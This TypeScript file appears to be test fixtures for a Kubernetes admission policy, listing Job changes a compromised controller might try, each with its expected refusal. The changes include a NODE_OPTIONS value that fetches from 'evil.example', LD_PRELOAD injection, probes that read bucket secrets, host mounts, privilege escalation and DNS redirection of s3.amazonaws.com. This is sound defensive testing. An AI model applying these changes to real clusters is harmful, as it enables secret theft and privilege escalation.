/** Jobs that a compromised controller could want, each with the refusal it gets. */
import { chosenKubernetes, minorNumber } from '#tools/local-cluster/kubernetes-versions.ts';
import type { JobBody, PodBody } from './job-body.ts';

/** The message of the policy for entries of a level of its table. */
export function refusalOf(level: string, ...names: readonly string[]): string {
  return `a zipper's Job has ${level} that are not allowed, are missing, or have another value: ${names.join(', ')}`;
}

function mount(pod: PodBody, volume: Record<string, unknown>): number {
  return pod.volumes.push({ name: 'extra', ...volume });
}

export function secretFiles(name: string) {
  return {
    projected: { sources: [{ secret: { name, items: [{ key: 'files.jsonl.gz', path: '0.jsonl.gz' }] } }] },
  };
}

export function replaceVolume(pod: PodBody, name: string, source: Record<string, unknown>): void {
  pod.volumes = pod.volumes.map((volume) => (volume['name'] === name ? { name, ...source } : volume));
}

function setEnv(pod: PodBody, name: string, value: string): void {
  const [container] = pod.containers;
  container.env = [...container.env.filter((variable) => variable['name'] !== name), { name, value }];
}

/** Of the Kubernetes that the tests run on. */
const CLUSTER_MINOR = minorNumber(chosenKubernetes().version);

type BadJob = readonly [what: string, change: (pod: PodBody, job: JobBody) => unknown, refusal: string];

const PROGRAMS: readonly BadJob[] = [
  ['another image', ({ containers: [c] }) => (c['image'] = 'evil'), refusalOf('container fields', 'image')],
  ['a command', ({ containers: [c] }) => (c['command'] = ['sh']), refusalOf('container fields', 'command')],
  ['arguments', ({ containers: [c] }) => (c['args'] = ['-e']), refusalOf('container fields', 'args')],
  [
    'a command at its start',
    ({ containers: [c] }) => (c['lifecycle'] = { postStart: { exec: { command: ['sh'] } } }),
    refusalOf('container fields', 'lifecycle'),
  ],
  ...['startupProbe', 'livenessProbe', 'readinessProbe'].map(
    (probe): BadJob => [
      `a ${probe} that runs a command`,
      ({ containers: [c] }) => (c[probe] = { exec: { command: ['sh', '-c', 'cat /etc/zipjobs/bucket/*'] } }),
      refusalOf('container fields', probe),
    ],
  ),
  [
    'a program in NODE_OPTIONS',
    (pod) => setEnv(pod, 'NODE_OPTIONS', '--import=data:text/javascript,fetch("//evil.example")'),
    refusalOf('environment variables', 'NODE_OPTIONS'),
  ],
  [
    'a library in LD_PRELOAD',
    (pod) => setEnv(pod, 'LD_PRELOAD', '/etc/zipjobs/files/0.jsonl.gz'),
    refusalOf('environment variables', 'LD_PRELOAD'),
  ],
  [
    'a second container',
    (pod) => pod.containers.push({ name: 'b', image: 'b' }),
    refusalOf('pod fields', 'containers'),
  ],
  [
    'an init container',
    (pod) => (pod['initContainers'] = [{ name: 'b', image: 'b' }]),
    refusalOf('pod fields', 'initContainers'),
  ],
  [
    'a mount over its program',
    (pod) => {
      mount(pod, { emptyDir: {} });
      pod.containers[0].volumeMounts.push({ name: 'extra', mountPath: '/app' });
    },
    refusalOf('volumes', 'extra'),
  ],
  [
    'its file list over its program',
    ({ containers: [c] }) => c.volumeMounts.push({ name: 'files', mountPath: '/app', readOnly: true }),
    refusalOf('volume mounts', 'files'),
  ],
];

const SETTINGS: readonly BadJob[] = [
  [
    'an egress rule of its own',
    (pod) => setEnv(pod, 'EGRESS_ALLOW_CIDRS', '0.0.0.0/0'),
    refusalOf('environment variables', 'EGRESS_ALLOW_CIDRS'),
  ],
  [
    'plain HTTP to the store',
    (pod) => setEnv(pod, 'STORE_ALLOW_HTTP', 'true'),
    refusalOf('environment variables', 'STORE_ALLOW_HTTP'),
  ],
  [
    'no setting of the operator',
    ({ containers: [c] }) => (c.env = c.env.filter(({ name }) => name !== 'STORE_ALLOW_HTTP')),
    refusalOf('environment variables', 'STORE_ALLOW_HTTP'),
  ],
  [
    'text as the service ranges of the cluster',
    (pod) => setEnv(pod, 'EGRESS_SERVICE_CIDRS', 'none'),
    refusalOf('environment variables', 'EGRESS_SERVICE_CIDRS'),
  ],
  [
    'text as the addresses of the API server',
    (pod) => setEnv(pod, 'EGRESS_API_SERVER_ADDRESSES', ''),
    refusalOf('environment variables', 'EGRESS_API_SERVER_ADDRESSES'),
  ],
  [
    'the trace context replaced by text',
    (pod) => setEnv(pod, 'TRACEPARENT', 'text of a caller'),
    refusalOf('environment variables', 'TRACEPARENT'),
  ],
  [
    'another name server',
    (pod) => (pod['dnsConfig'] = { nameservers: ['192.0.2.1'] }),
    refusalOf('pod fields', 'dnsConfig'),
  ],
  [
    'an address for a name',
    (pod) => (pod['hostAliases'] = [{ ip: '192.0.2.1', hostnames: ['s3.amazonaws.com'] }]),
    refusalOf('pod fields', 'hostAliases'),
  ],
  [
    'a priority class of the control plane',
    (pod) => (pod['priorityClassName'] = 'system-node-critical'),
    refusalOf('pod fields', 'priorityClassName'),
  ],
  [
    'a label that a webhook may act on',
    (_pod, { spec }) => (spec.template.metadata.labels['azure.workload.identity/use'] = 'true'),
    refusalOf('pod labels', 'azure.workload.identity/use'),
  ],
  [
    'no label of its network policy',
    (_pod, { spec }) => delete spec.template.metadata.labels['app.kubernetes.io/managed-by'],
    refusalOf('pod labels', 'app.kubernetes.io/managed-by'),
  ],
  [
    'an annotation that the node may act on',
    (_pod, { spec }) =>
      (spec.template.metadata.annotations['container.apparmor.security.beta.kubernetes.io/zipper'] =
        'unconfined'),
    refusalOf('pod annotations', 'container.apparmor.security.beta.kubernetes.io/zipper'),
  ],
];

/** Before Kubernetes 1.34, the API server drops the field. */
const DEVICE: BadJob = [
  'a device',
  (pod) => (pod['resourceClaims'] = [{ name: 'gpu', resourceClaimName: 'gpu' }]),
  refusalOf('pod fields', 'resourceClaims'),
];

const PRIVILEGES: readonly BadJob[] = [
  [
    'another service account',
    (pod) => (pod['serviceAccountName'] = 'default'),
    refusalOf('pod fields', 'serviceAccount'),
  ],
  [
    'the automatic token',
    (pod) => (pod['automountServiceAccountToken'] = true),
    refusalOf('pod fields', 'automountServiceAccountToken'),
  ],
  ...['hostNetwork', 'hostPID', 'hostIPC', 'shareProcessNamespace'].map(
    (field): BadJob => [field, (pod) => (pod[field] = true), refusalOf('pod fields', field)],
  ),
  [
    'privileges',
    ({ containers: [c] }) => (c['securityContext'] = { privileged: true }),
    refusalOf('container fields', 'securityContext'),
  ],
  [
    'a writable root',
    ({ containers: [c] }) =>
      (c['securityContext'] = { ...(c['securityContext'] as object), readOnlyRootFilesystem: false }),
    refusalOf('container fields', 'securityContext'),
  ],
  [
    'no security context',
    ({ containers: [c] }) => delete c['securityContext'],
    refusalOf('container fields', 'securityContext'),
  ],
  [
    'the root user',
    (pod) => (pod['securityContext'] = { ...(pod['securityContext'] as object), runAsUser: 0 }),
    refusalOf('pod fields', 'securityContext'),
  ],
  [
    'a port of its node',
    ({ containers: [c] }) => (c['ports'] = [{ containerPort: 80, hostPort: 80 }]),
    refusalOf('container fields', 'ports'),
  ],
  ['a node', (pod) => (pod['nodeName'] = 'control-plane-1'), refusalOf('pod fields', 'nodeName')],
  ...(CLUSTER_MINOR >= 34 ? [DEVICE] : []),
  [
    'another Job controller',
    (_pod, { spec }) => (spec['managedBy'] = 'example.com/controller'),
    refusalOf('Job fields', 'managedBy'),
  ],
  ['many pods', (_pod, { spec }) => (spec['parallelism'] = 100), refusalOf('Job fields', 'parallelism')],
];

const SECRETS: readonly BadJob[] = [
  ["the node's files", (pod) => mount(pod, { hostPath: { path: '/' } }), refusalOf('volumes', 'extra')],
  [
    'another Secret',
    (pod) => mount(pod, { secret: { secretName: 'database' } }),
    refusalOf('volumes', 'extra'),
  ],
  [
    'two buckets',
    (pod) => mount(pod, { secret: { secretName: 'zipbucket-b' } }),
    refusalOf('volumes', 'extra'),
  ],
  [
    'the webhook key as its bucket',
    (pod) => replaceVolume(pod, 'bucket', { secret: { secretName: 'zipjobs-webhook' } }),
    refusalOf('volumes', 'bucket'),
  ],
  [
    "another ZipJob's list",
    (pod) => replaceVolume(pod, 'files', secretFiles('zip-other-files-0')),
    refusalOf('volumes', 'files'),
  ],
  [
    "a bucket's Secret as its list",
    (pod) => replaceVolume(pod, 'files', secretFiles('zipbucket-b')),
    refusalOf('volumes', 'files'),
  ],
  [
    'a token for another audience',
    (pod) =>
      replaceVolume(pod, 'api-token', {
        projected: { sources: [{ serviceAccountToken: { path: 'token', audience: 'vault' } }] },
      }),
    refusalOf('volumes', 'api-token'),
  ],
  [
    'a Secret in its environment',
    ({ containers: [c] }) =>
      c.env.push({ name: 'A', valueFrom: { secretKeyRef: { name: 'database', key: 'password' } } }),
    refusalOf('environment variables', 'A'),
  ],
  [
    'a whole Secret in its environment',
    ({ containers: [c] }) => (c['envFrom'] = [{ secretRef: { name: 'database' } }]),
    refusalOf('container fields', 'envFrom'),
  ],
  [
    'another pull Secret',
    (pod) => (pod['imagePullSecrets'] = [{ name: 'registry' }]),
    refusalOf('pod fields', 'imagePullSecrets'),
  ],
  [
    'no owner',
    (_pod, job) => delete job.metadata.ownerReferences,
    "a zipper's Job must have one owner, a ZipJob or a ZipBucket",
  ],
];

export const BAD_JOBS: readonly BadJob[] = [...PROGRAMS, ...SETTINGS, ...PRIVILEGES, ...SECRETS];
